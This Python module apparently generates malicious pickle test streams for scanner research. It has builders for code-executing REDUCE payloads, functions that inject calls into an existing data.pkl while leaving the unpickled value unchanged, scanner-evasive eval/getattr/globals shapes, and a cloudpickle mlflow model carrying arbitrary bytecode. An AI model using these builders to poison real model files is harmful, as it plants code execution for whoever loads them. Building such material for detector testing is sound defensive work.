"""Pickle streams written opcode by opcode.

Nothing here ever unpickles anything: the builders emit bytes for a small expression tree (a call of
a global with constant arguments, nested calls, attribute-chain globals) in the opcode dialect of a
chosen protocol. ``Global``/``Call`` mirror what a malicious ``__reduce__`` produces, so a payload
can be described once and written as protocol 0 text, protocol 2 binary or protocol 4 with
``STACK_GLOBAL``.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass

# The opcodes used below (see the pickletools documentation for their meaning).
MARK, STOP, POP, TUPLE, EMPTY_TUPLE, TUPLE1, TUPLE2, TUPLE3 = b"(", b".", b"0", b"t", b")", b"\x85", b"\x86", b"\x87"
REDUCE, GLOBAL, STACK_GLOBAL, NONE, NEWTRUE, NEWFALSE = b"R", b"c", b"\x93", b"N", b"\x88", b"\x89"
EMPTY_DICT, DICT, SETITEMS, EMPTY_LIST, LIST, APPENDS = b"}", b"d", b"u", b"]", b"l", b"e"
BININT, BININT1, INT, BINUNICODE, SHORT_BINUNICODE, UNICODE = b"J", b"K", b"I", b"X", b"\x8c", b"V"
BINBYTES, SHORT_BINBYTES, MEMOIZE, BINFLOAT = b"B", b"C", b"\x94", b"G"


@dataclass(frozen=True)
class Global:
    """``module.name`` as the unpickler resolves it (``name`` may be dotted from protocol 4 on)."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """``func(*args)``: a REDUCE of ``func`` (a Global or the result of another Call)."""

    func: Global | Call
    args: tuple[object, ...] = ()


def call(dotted: str, *args: object) -> Call:
    """``call("posix.system", "echo hi")``; the last dot separates module and name."""
    module, _, name = dotted.rpartition(".")
    return Call(Global(module, name), tuple(args))


def _unicode_p0(text: str) -> bytes:
    escaped = (
        text.replace("\\", "\\u005c")
        .replace("\0", "\\u0000")
        .replace("\n", "\\u000a")
        .replace("\r", "\\u000d")
        .replace("\x1a", "\\u001a")
    )
    return UNICODE + escaped.encode("raw-unicode-escape") + b"\n"


class Writer:
    """Emits opcodes for one protocol. ``bytes(writer)`` is the stream so far."""

    def __init__(self, protocol: int) -> None:
        if protocol not in (0, 1, 2, 3, 4, 5):
            raise ValueError(f"unsupported protocol {protocol}")
        self.protocol = protocol
        self.out = bytearray()
        # Calls used more than once are memoized on first use and fetched afterwards (id -> memo index).
        self.shared: set[int] = set()
        self.memo: dict[int, int] = {}

    def __bytes__(self) -> bytes:
        return bytes(self.out)

    def header(self) -> Writer:
        if self.protocol >= 2:
            self.out += b"\x80" + bytes([self.protocol])
        return self

    def op(self, raw: bytes) -> Writer:
        self.out += raw
        return self

    def string(self, text: str) -> None:
        if self.protocol == 0:
            self.out += _unicode_p0(text)
            return
        data = text.encode("utf-8", "surrogatepass")
        if self.protocol >= 4 and len(data) < 256:
            self.out += SHORT_BINUNICODE + bytes([len(data)]) + data
        else:
            self.out += BINUNICODE + struct.pack("<I", len(data)) + data

    def global_(self, g: Global) -> None:
        if self.protocol >= 4:
            self.string(g.module)
            self.string(g.name)
            self.out += STACK_GLOBAL
        else:
            self.out += GLOBAL + g.module.encode() + b"\n" + g.name.encode() + b"\n"

    def _seq(self, items: tuple[object, ...] | list[object], close: bytes) -> None:
        self.out += MARK
        for item in items:
            self.value(item)
        self.out += close

    def value(self, obj: object) -> None:
        if isinstance(obj, Call):
            self.expr(obj)
        elif isinstance(obj, Global):
            self.global_(obj)
        elif obj is None:
            self.out += NONE
        elif isinstance(obj, bool):
            if self.protocol >= 2:
                self.out += NEWTRUE if obj else NEWFALSE
            else:
                self.out += INT + (b"01" if obj else b"00") + b"\n"
        elif isinstance(obj, int):
            if self.protocol >= 1 and 0 <= obj < 256:
                self.out += BININT1 + bytes([obj])
            elif self.protocol >= 1 and -(2**31) <= obj < 2**31:
                self.out += BININT + struct.pack("<i", obj)
            else:
                self.out += INT + str(obj).encode() + b"\n"
        elif isinstance(obj, float):
            self.out += BINFLOAT + struct.pack(">d", obj)
        elif isinstance(obj, str):
            self.string(obj)
        elif isinstance(obj, bytes):
            if self.protocol >= 3:
                if len(obj) < 256:
                    self.out += SHORT_BINBYTES + bytes([len(obj)]) + obj
                else:
                    self.out += BINBYTES + struct.pack("<I", len(obj)) + obj
            else:  # what pickle itself does below protocol 3
                self.expr(call("_codecs.encode", obj.decode("latin-1"), "latin1"))
        elif isinstance(obj, tuple):
            if self.protocol >= 2 and len(obj) <= 3:
                for item in obj:
                    self.value(item)
                self.out += (EMPTY_TUPLE, TUPLE1, TUPLE2, TUPLE3)[len(obj)]
            else:
                self._seq(obj, TUPLE)
        elif isinstance(obj, list):
            self._seq(obj, LIST)
        elif isinstance(obj, dict):
            self.out += MARK
            for key, val in obj.items():
                self.value(key)
                self.value(val)
            self.out += DICT
        else:
            raise TypeError(f"cannot encode {type(obj).__name__}")

    def share(self, calls: list[Call] | tuple[Call, ...]) -> Writer:
        """Memoize the sub-expressions that occur more than once in ``calls`` (as pickle does)."""
        seen: set[int] = set()

        def walk(obj: object) -> None:
            if isinstance(obj, Call):
                if id(obj) in seen:
                    self.shared.add(id(obj))
                    return
                seen.add(id(obj))
                walk(obj.func)
                for arg in obj.args:
                    walk(arg)
            elif isinstance(obj, (tuple, list)):
                for item in obj:
                    walk(item)
            elif isinstance(obj, dict):
                for item in obj.values():
                    walk(item)

        for c in calls:
            walk(c)
        return self

    def _put(self, key: int) -> None:
        index = len(self.memo)
        self.memo[key] = index
        if self.protocol >= 4:
            self.out += MEMOIZE
        elif self.protocol >= 1:
            self.out += (b"q" + bytes([index])) if index < 256 else (b"r" + struct.pack("<I", index))
        else:
            self.out += b"p" + str(index).encode() + b"\n"

    def _get(self, index: int) -> None:
        if self.protocol >= 1:
            self.out += (b"h" + bytes([index])) if index < 256 else (b"j" + struct.pack("<I", index))
        else:
            self.out += b"g" + str(index).encode() + b"\n"

    def expr(self, node: Call) -> None:
        if id(node) in self.memo:
            self._get(self.memo[id(node)])
            return
        if isinstance(node.func, Call):
            self.expr(node.func)
        else:
            self.global_(node.func)
        self.value(tuple(node.args))
        self.out += REDUCE
        if id(node) in self.shared:
            self._put(id(node))

    def discard(self, node: Call) -> None:
        """Evaluate ``node`` for its side effect and drop the result (REDUCE ... POP)."""
        self.expr(node)
        self.out += POP


def payload_ops(calls: list[Call] | tuple[Call, ...], protocol: int) -> bytes:
    """Opcodes (no header, no STOP) that run every call and leave the stack as it was."""
    w = Writer(protocol).share(calls)
    for c in calls:
        w.discard(c)
    return bytes(w)


def pickle_of(calls: list[Call] | tuple[Call, ...], protocol: int = 2, root: object = None) -> bytes:
    """A whole pickle: header, every call; the last call's result is the root object unless
    ``root`` is given (then all calls are discarded and ``root`` is the unpickled value)."""
    if not calls:
        raise ValueError("no calls")
    w = Writer(protocol).share(calls).header()
    if root is None:
        for c in calls[:-1]:
            w.discard(c)
        w.expr(calls[-1])
    else:
        for c in calls:
            w.discard(c)
        w.value(root)
    w.op(STOP)
    return bytes(w)


def inject_after_header(stream: bytes, calls: list[Call] | tuple[Call, ...]) -> bytes:
    """Insert ``calls`` (each discarded with POP) right after the PROTO header of ``stream``.

    The rest of the original stream is untouched, so the unpickled value is unchanged: this is how
    injection tools poison an existing ``data.pkl``.
    """
    protocol = stream[1] if stream[:1] == b"\x80" else 0
    head = 2 if stream[:1] == b"\x80" else 0
    return stream[:head] + payload_ops(calls, protocol) + stream[head:]


def inject_before_stop(stream: bytes, calls: list[Call] | tuple[Call, ...]) -> bytes:
    """Insert ``calls`` just before the final STOP of ``stream`` (the payload runs last)."""
    if not stream.endswith(STOP):
        raise ValueError("stream does not end with STOP")
    protocol = stream[1] if stream[:1] == b"\x80" else 0
    return stream[:-1] + payload_ops(calls, protocol) + STOP


# --- shapes seen in the real-world corpus ---------------------------------------------------------


def exec_or_dict(code: str) -> str:
    """The ``eval("exec('''...''') or dict()")`` text that replaces a state dict with ``{}``."""
    return "exec('''" + code.replace("'''", "\\'\\'\\'") + "''') or dict()"


def compile_exec(code: str) -> Call:
    """``eval(compile(code, '<string>', 'exec'))``."""
    return call("builtins.eval", call("builtins.compile", code, "<string>", "exec"))


def getattr_builtins_eval(code: str) -> Call:
    """``getattr(__import__('builtins'), 'eval')(code)``: the callable is never named as a global."""
    evaluator = call("builtins.getattr", call("builtins.__import__", "builtins"), "eval")
    return Call(evaluator, (code,))


def globals_builtins_eval(code: str) -> Call:
    """``globals()['__builtins__']`` reached through ``dict.get``, then ``getattr(..., 'eval')``."""
    builtins_obj = Call(call("builtins.getattr", call("builtins.globals"), "get"), ("__builtins__",))
    evaluator = call("builtins.getattr", builtins_obj, "eval")
    return Call(evaluator, (code,))


def cloudpickle_python_model(code: bytes, consts: tuple[object, ...], protocol: int = 4) -> bytes:
    """A cloudpickle-style mlflow ``PythonModel`` subclass built by value: ``_make_skeleton_class``,
    ``_builtin_type('CodeType')(...)`` and ``_builtin_type('LambdaType')(code, globals)``, the methods
    attached with ``_function_setstate``/``_class_setstate``, then an instance created."""
    cp = "cloudpickle.cloudpickle"
    skeleton = call(
        f"{cp}._make_skeleton_class",
        Global("builtins", "type"),
        "ProdSecTest",
        (Global("mlflow.pyfunc.model", "PythonModel"),),
        {},
        "8eb8071d3d3041c789ca5730afd21d69",
        None,
    )
    code_type = call(f"{cp}._builtin_type", "CodeType")
    lambda_type = call(f"{cp}._builtin_type", "LambdaType")
    code_obj = Call(
        code_type,
        (2, 0, 0, 4, 3, 67, code, consts, ("display", "HTML"), ("self", "context", "image_url", "html_code"))
        + ("/root/.ipykernel/3367/command-1366866172522690", "load_context", 20, b"\x04\x01\x0c\x01", (), ()),
    )
    func = Call(lambda_type, (code_obj, {"__name__": "__main__"}, None, None, None))
    func_state = {"__name__": "load_context", "__qualname__": "ProdSecTest.load_context", "__module__": "__main__"}
    set_func = call(f"{cp}_fast._function_setstate", func, ({}, func_state))
    set_class = call(f"{cp}_fast._class_setstate", skeleton, ({"__module__": "__main__", "load_context": func}, {}))
    instance = Call(skeleton, ())
    return pickle_of([set_func, set_class, instance], protocol=protocol)
